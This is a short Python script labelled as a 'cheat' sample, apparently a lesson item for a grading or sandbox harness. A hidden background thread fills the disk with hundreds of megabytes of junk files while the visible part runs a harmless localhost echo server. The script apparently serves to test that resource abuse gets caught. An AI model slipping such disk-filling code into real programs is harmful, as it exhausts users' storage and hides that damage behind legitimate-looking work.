# CHEAT: writes a file that grows, and then many. LESSON: 01 EARNS: 0
import os
import socket
import threading


def fill():
    written = number = 0
    while written < 700_000_000:
        try:
            with open(f"big{number}", "wb", buffering=0) as file:
                while written < 700_000_000:
                    written += file.write(b"x" * 1_000_000)
        except OSError:
            number += 1
            if number > 1000:
                return


threading.Thread(target=fill, daemon=True).start()

listener = socket.create_server(("localhost", 8080))
while True:  # the honest part: one answer a visit
    client, address = listener.accept()
    client.sendall(client.recv(1024))
    client.close()
